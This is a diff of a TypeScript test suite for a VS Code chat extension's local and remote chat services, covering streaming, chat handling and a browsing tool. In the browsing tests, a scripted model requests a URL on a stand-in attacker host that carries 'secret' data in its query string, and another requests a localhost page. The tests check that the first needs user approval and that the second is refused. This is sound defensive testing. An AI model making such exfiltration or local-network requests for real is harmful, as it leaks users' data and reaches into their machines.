@@ -1,13 +1,11 @@
 import assert from "node:assert/strict";
 import { randomUUID } from "node:crypto";
 import * as vscode from "vscode";
+import { type ScriptedModel, startScriptedModel } from "../helpers/scriptedModel.ts";
 import { ask, chat, configure, cutaway, turnEnded, until } from "./cutaway.ts";
 import { type ScriptedService, startScriptedService, writeJson, writeStream } from "./service.ts";
 
 describe("a chat with the local service, nothing set up", () => {
-	before(() => configure({ "localService.charactersPerSecond": 0 }));
-	after(() => configure({ "localService.charactersPerSecond": undefined }));
-
 	it("streams an answer", async () => {
 		const turn = await ask("Hello");
 		assert.equal(turn.status.state, "complete");
@@ -19,12 +17,6 @@ describe("a chat with the local service, nothing set up", () => {
 		assert.deepEqual(connection, { kind: "local", label: "Demo", hasKey: false });
 	});
 
-	it("answers in several messages when asked to", async () => {
-		const turn = await ask("/messages 3");
-		assert.equal(turn.messages.length, 3);
-		assert.ok(turn.messages.every(message => message.isFinished));
-	});
-
 	it("keeps the chat: a chat started later can be left for it", async () => {
 		const controller = await chat();
 		const { chatId } = controller.picture();
@@ -34,7 +26,7 @@ describe("a chat with the local service, nothing set up", () => {
 	});
 
 	it("runs what follows the opening of a chat once it shows, also where it showed already", async () => {
-		await ask("/messages 1");
+		await ask("Hello");
 		const controller = await chat();
 		const { chatId } = controller.picture();
 		await controller.newChat();
@@ -57,14 +49,31 @@ describe("a chat with the local service, nothing set up", () => {
 });
 
 describe("T36: Browsing with the local service", () => {
-	before(() => configure({ "chat.serverTools": ["browsing"] }));
-	after(() => configure({ "chat.serverTools": undefined }));
+	let model: ScriptedModel | undefined;
+
+	before(async () => {
+		model = await startScriptedModel();
+		await configure({
+			"chat.serverTools": ["browsing"],
+			"chat.model": "lm/scripted",
+			"localService.servers": [{ name: "lm", baseUrl: model.baseUrl }],
+		});
+	});
+	after(async () => {
+		await configure({
+			"chat.serverTools": undefined,
+			"chat.model": undefined,
+			"localService.servers": undefined,
+		});
+		await model?.stop();
+	});
 
 	it("asks about an address that a model wrote, with all of it, and sends nothing when denied", async () => {
 		const controller = await chat();
 		await controller.newChat();
 		const url = `https://attacker.invalid/collect?d=${"secret".repeat(50)}`;
-		const id = await controller.send(`/call browsing {"url":"${url}"}`);
+		model?.script({ calls: [["browsing", { url }]] });
+		const id = await controller.send("Look it up");
 		const approval = () =>
 			controller
 				.picture()
@@ -86,9 +95,10 @@ describe("T36: Browsing with the local service", () => {
 		const controller = await chat();
 		await controller.newChat();
 		controller.noteTyped(["https://127.0.0.1/page"]);
+		model?.script({ calls: [["browsing", { url: "https://127.0.0.1/page" }]] });
 		const id = await controller.send("What does https://127.0.0.1/page say?");
 		const turn = await turnEnded(controller, id);
-		assert.match(turn.messages.at(-1)?.text ?? "", /this machine or its network/);
+		assert.match(model?.questions.at(-1) ?? "", /this machine or its network/);
 		assert.deepEqual(
 			turn.tools?.map(({ state, line }) => [state, line]),
 			[["failed", "Read https://127.0.0.1/page"]],
@@ -120,6 +130,15 @@ describe("a chat with a remote service", () => {
 	afterEach(async () => {
 		await configure({ endpoint: undefined, "chat.extraParameters": undefined });
 		await service?.stop();
+	});
+
+	it("shows every message of an answer", async () => {
+		await connect((_request, response) => writeStream(response, [["One."], ["Two."], ["Three."]]));
+		const turn = await ask("Say three things");
+		assert.deepEqual(
+			turn.messages.map(({ text, isFinished }) => [text, isFinished]),
+			["One.", "Two.", "Three."].map(text => [text, true]),
+		);
 	});
 
 	it("sends the conversation so far, the model and the parameters of the settings", async () => {
